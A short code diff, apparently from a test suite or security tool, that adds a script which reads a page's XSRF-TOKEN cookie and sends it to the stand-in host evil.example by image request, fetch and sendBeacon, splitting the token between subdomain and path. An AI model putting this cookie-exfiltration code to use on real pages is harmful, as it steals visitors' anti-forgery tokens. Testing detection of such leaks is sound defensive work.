@@ -704,6 +704,8 @@ export const MAIN_WORLD_SCRIPTS = {
   const token = (/(?:^|; )XSRF-TOKEN=([^;]+)/.exec(document.cookie) || [])[1] || 'none';
   new Image().src = 'https://' + token + '.evil.example/p.gif';
   fetch('https://' + token.slice(0, 16) + '.' + token.slice(16) + '.evil.example/c', { mode: 'no-cors' }).catch(() => {});
+  // Half in a subdomain, half in the path: neither carries it alone.
+  navigator.sendBeacon('https://' + token.slice(0, 16) + '.evil.example/b/' + token.slice(16));
 })();`,
 
   /**
